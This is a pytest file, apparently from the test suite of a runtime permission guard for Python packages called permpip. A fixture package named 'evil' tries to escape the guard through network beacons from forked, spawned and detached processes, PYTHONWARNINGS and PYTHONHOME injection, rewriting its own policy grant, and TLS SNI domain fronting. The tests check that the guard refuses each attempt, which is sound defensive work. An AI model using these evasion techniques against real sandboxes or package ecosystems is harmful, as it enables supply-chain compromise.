def test_a_fork_with_no_thread_inside_the_guard(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip, python: Path) -> None:
    """The control of the previous test: the child's thread is judged."""
    o = run(tmp_path, run_permpip, python, textwrap.dedent(FORK).replace(
        "WORKDIR", repr(str(tmp_path))).replace("STUCK", "False"), target=target,
        grant='["fs-write", "threads"]', enforce=True)
    assert target.requests == [] and "forked: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["phase"]) == ("evil", "runtime")
    assert v["evidence"].startswith("evil/net.py:4 (runtime) -> urllib.request.urlopen -> "), \
        v["evidence"]
    assert o.used == [("evil", "network")]


def test_multiprocessing_children_of_every_start_method(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """fork (the guard's state inherited), forkserver (a server process started with the
    guard, forking the workers) and spawn (a new interpreter): evil refused in each."""
    o = run(tmp_path, run_permpip, python, (
        "import multiprocessing, os, evil.net\n"
        "if __name__ == '__main__':\n"
        "    for method in ('fork', 'forkserver', 'spawn'):\n"
        "        p = multiprocessing.get_context(method).Process(\n"
        "            target=evil.net.beacon, args=(os.environ['TARGET_URL'], method))\n"
        "        p.start()\n"
        "        p.join()\n"), target=target, enforce=True)
    assert target.requests == [], o.output
    for method in ("fork", "forkserver", "spawn"):
        assert f"{method}: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "http.client.connect")
    assert o.used == [("evil", "network")]


def test_a_detached_process_outlives_the_run(tmp_path: Path, target: Target,
                                             run_permpip: RunPermpip, python: Path) -> None:
    """A process the package starts detached (start_new_session) outlives the command,
    whose run directory permpip removes when it ends. permpip reports each process of the
    run still running then (the run fails), and a guard whose run has ended refuses to
    start programs (they would have no guard)."""
    o = run(tmp_path, run_permpip, python, "import os, evil.daemon\n"
            "evil.daemon.start(os.environ['TARGET_URL'])\n", target=target,
            grant='["subprocess"]', enforce=True)
    assert "daemon: guarded: True" in o.output and "daemon: run directory gone: True" \
        in o.output, o.output
    assert "PermissionError: permpip: the run has ended (its guard directory is gone): " \
        "subprocess.Popen refused" in o.output, o.output
    assert target.requests == [], o.output
    [main, daemon] = o.report["processes"]
    [error] = o.report["errors"]
    assert error.startswith(f"pid {daemon['pid']} ({python} -c import sys, evil._late; ") and \
        error.endswith(") was still running when the command ended: what it does from now "
                       "on is not seen, and the programs it starts have no guard"), error
    assert o.used == [] and o.code == 1


def test_warning_options_import_the_package_before_the_guard(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """A package granted env adds its site directory after the guard on PYTHONPATH (allowed)
    and sets PYTHONWARNINGS='ignore::evil._boot.Boot', which every later Python child would
    import while reading its warning options, before site and so before the guard: a
    category that names a module is ``guard``, refused."""
    o = run(tmp_path, run_permpip, python, (
        "import subprocess, sys, evil.warn\n"
        "try:\n"
        "    evil.warn.arm()\n"
        "except PermissionError as exc:\n"
        "    print('refused:', exc)\n"
        "subprocess.run([sys.executable, '-c', 'print(\"worker ran\")'], check=True)\n"),
        target=target, grant='["env"]', enforce=True)
    assert target.requests == [] and "worker ran" in o.output, o.output
    assert "refused: permpip: evil 1.0 may not use guard (os.putenv names a module in " \
        "PYTHONWARNINGS (imported as Python starts, before the guard) at evil/warn.py:8)" \
        in o.output, o.output
    v = violation(o, "guard")
    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "os.putenv")
    assert o.used == [("evil", "guard")]


@pytest.mark.parametrize("name", ["PYTHONHOME", "PYTHONUSERBASE", "PYTHONPYCACHEPREFIX",
                                  "PYTHONPLATLIBDIR"])
def test_variables_that_run_code_before_the_guard(tmp_path: Path, run_permpip: RunPermpip,
                                                  python: Path, name: str) -> None:
    """A package granted env setting a variable that has every later Python child run code
    before site (another standard library, a user site whose .pth lines run before
    sitecustomize, compiled files read from elsewhere): ``guard``, refused."""
    o = run(tmp_path, run_permpip, python, (
        "import evil.early\ntry:\n"
        f"    evil.early.set_({name!r}, {str(tmp_path)!r})\n"
        "except PermissionError as exc:\n    print('refused:', exc)\n"),
        grant='["env"]', enforce=True)
    assert f"refused: permpip: evil 1.0 may not use guard (os.putenv changes {name} (code " \
        "run as Python starts, before the guard) at evil/early.py:3)" in o.output, o.output
    v = violation(o, "guard")
    assert (v["package"], v["event"]) == ("evil", "os.putenv")
    assert o.used == [("evil", "guard")]


@pytest.mark.parametrize("how", ["environment", "option"])
def test_the_applications_warning_options_naming_a_package(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        how: str) -> None:
    """The application itself names evil's category (PYTHONWARNINGS, or ``-W``) for a child
    whose PYTHONPATH holds evil's site directory: the guard takes the option out of the
    child's environment (or arguments), so nothing of evil's runs before the guard."""
    warn = "'ignore::evil._boot.Boot'"
    o = run(tmp_path, run_permpip, python, (
        "import os, subprocess, sys, evil\n"
        "site = os.path.dirname(os.path.dirname(evil.__file__))\n"
        "os.environ['PYTHONPATH'] += os.pathsep + site\n"
        + (f"os.environ['PYTHONWARNINGS'] = {warn}\nopts = []\n" if how == "environment"
           else f"opts = ['-W', {warn}]\n") +
        "subprocess.run([sys.executable, *opts, '-c', 'import sys; "
        "print(\"worker ran\", sys.warnoptions, \"evil._boot\" in sys.modules)'], check=True)\n"),
        target=target, enforce=True)
    assert target.requests == [] and "worker ran [] False" in o.output, o.output
    assert o.used == [] and o.code == 0


def test_warning_options_without_an_env_grant(tmp_path: Path, target: Target,
                                             run_permpip: RunPermpip, python: Path) -> None:
    """The previous vector needs ``env``: without it the change is refused, and the child
    imports nothing of evil's."""
    o = run(tmp_path, run_permpip, python, (
        "import subprocess, sys, evil.warn\n"
        "try:\n"
        "    evil.warn.arm()\n"
        "except PermissionError as exc:\n"
        "    print('refused:', exc)\n"
        "subprocess.run([sys.executable, '-c', 'print(\"worker ran\")'], check=True)\n"),
        target=target, enforce=True)
    assert target.requests == [] and "worker ran" in o.output, o.output
    v = violation(o, "env")
    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "os.environ")
    assert o.used == [("evil", "env")]


@MODES
def test_rewriting_the_policy_for_the_next_run(tmp_path: Path, target: Target,
                                               run_permpip: RunPermpip, python: Path,
                                               enforce: bool) -> None:
    """The policy's source (the project's pyproject.toml, or --policy FILE): a package
    granted fs-write that edits its own grant would have the next run hold it. The guard
    knows the file the run read (real path, device and inode): a change of it by a package
    is ``guard`` (refused with --enforce; reported, the run failing, without)."""
    first = run(tmp_path, run_permpip, python, "import evil.policy\ntry:\n"
                "    evil.policy.grant_itself()\n"
                "except PermissionError as exc:\n    print('refused:', exc)\n",
                grant='["fs-write"]', enforce=enforce)
    project = tmp_path / "project"
    changed = 'evil = ["fs-write", "network"]' in (project / "pyproject.toml").read_text()
    assert changed != enforce, first.output
    v = violation(first, "guard")
    assert (v["package"], v["event"], v["detail"], v["denied"]) == (
        "evil", "open", "changes the policy this run holds: pyproject.toml", enforce)
    assert first.used == [("evil", "guard")] and first.code == 1
    if enforce:
        (project / "main2.py").write_text("import os, evil.net\n"
                                          "evil.net.beacon(os.environ['TARGET_URL'])\n")
        out = project / "report2.json"
        done = run_permpip("run", "--enforce", "--format", "json", "--output", str(out), "--",
                           str(python), "main2.py", cwd=project, env={"TARGET_URL": target.url})
        second = Outcome(done.returncode, read_report(out), done.stdout + done.stderr, out)
        assert target.requests == [] and second.used == [("evil", "network")], second.output


@pytest.mark.parametrize("call", ["posix_spawn", "execve"])
def test_the_applications_posix_spawn_without_the_guard(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        call: str) -> None:
    """The application's os.posix_spawn (or os.exec*e, os.spawn*e) with an environment of
    its own (no PYTHONPATH) and ``-I``: the guard puts itself back into it, as into
    fork_exec's, so the child (which imports evil) is guarded."""
    start = ("pid = os.posix_spawn(sys.executable, argv, {'PATH': '/usr/bin:/bin'})\n"
             if call == "posix_spawn" else
             "pid = os.fork()\n"
             "if pid == 0:\n"
             "    os.execve(sys.executable, argv, {'PATH': '/usr/bin:/bin'})\n")
    o = run(tmp_path, run_permpip, python, (
        "import os, sys\n"
        "code = 'import sys, evil.net; evil.net.beacon(sys.argv[1], \"spawned\")'\n"
        "argv = [sys.executable, '-I', '-c', code, os.environ['TARGET_URL']]\n"
        + start + "os.waitpid(pid, 0)\n"), target=target, enforce=True)
    assert target.requests == [] and "spawned: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["phase"], v["event"]) == ("evil", "runtime", "http.client.connect")
    assert len(o.report["processes"]) == 2
    assert o.used == [("evil", "network")]


# -- 5. hosts --------------------------------------------------------------------------------------


@bypass5("hosts", "inherent (docs/runtime.md, what the guard cannot see): TLS server name "
         "indication: evil, limited to localhost, connects to localhost and wraps the socket "
         "with server_hostname='forbidden.test': the ClientHello names forbidden.test (what a "
         "CDN or TLS-terminating proxy routes by: domain fronting), and ssl raises no event; "
         "the name is handed to _ssl._SSLContext._wrap_socket/_wrap_bio, methods of a C type "
         "that cannot be replaced and that any code calls directly, past a wrapper of "
         "ssl.SSLContext's")
def test_a_tls_server_name_outside_its_hosts(tmp_path: Path, run_permpip: RunPermpip,
                                             python: Path, proxy: RawProxy) -> None:  # noqa: F811
    o = run(tmp_path, run_permpip, python,
            f"import evil.tls\nevil.tls.hello({proxy.port}, 'forbidden.test')\n",
            grant=LOCAL, enforce=True)
    took_effect(b"forbidden.test" in proxy.received, o)
    assert ("evil", "network") in o.used


class Redirector(Target):
    """An HTTP server on every local address: ``/start`` redirects to ``location``,
    anything else answers 200; every request is recorded."""

    def __init__(self) -> None:
        self.location = ""
        super().__init__("0.0.0.0")  # noqa: S104 - 127.0.0.2

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        if not handler.path.startswith("/start"):
            super().answer(handler)
            return
        handler.send_response(302)
        handler.send_header("Location", self.location)
        handler.send_header("Content-Length", "0")
        handler.end_headers()


@pytest.fixture
def redirector() -> Iterator[Redirector]:
    r = Redirector()
    yield r
    r.stop()


def test_a_redirect_from_an_allowed_host_to_an_address_outside(
        tmp_path: Path, run_permpip: RunPermpip, python: Path,
        redirector: Redirector) -> None:
    """evil, limited to localhost, asks localhost; the answer redirects to 127.0.0.2 (no
    name of its hosts resolved there): urllib follows, and the connect is refused."""
    redirector.location = f"http://127.0.0.2:{redirector.port}/beacon?redirected"
    o = run(tmp_path, run_permpip, python, "import evil.net\n"
            f"evil.net.beacon('http://localhost:{redirector.port}/start', 'redirect')\n",
            grant=LOCAL, enforce=True)
    assert redirector.requests == ["/start?redirect"], o.output
    assert "redirect: PermissionError" in o.output, o.output
    v = violation(o, "network")
    assert (v["package"], v["event"], v["detail"]) == (
        "evil", "socket.connect", f"127.0.0.2:{redirector.port} (not in its hosts)")
    assert o.used == [("evil", "network")]


def test_fork_exec_with_no_arguments(tmp_path: Path, run_permpip: RunPermpip,
                                     python: Path) -> None:
    """``_posixsubprocess.fork_exec()`` with no arguments: the guard's handler passes it
    through (the real function's TypeError), not a failure of its own."""
    o = run(tmp_path, run_permpip, python, "import _posixsubprocess\ntry:\n"
            "    _posixsubprocess.fork_exec()\nexcept TypeError as exc:\n"
            "    print('app:', exc)\n", enforce=True)
    assert "app: fork_exec() takes exactly" in o.output, o.output
    assert o.report["errors"] == [] and o.used == [] and o.code == 0
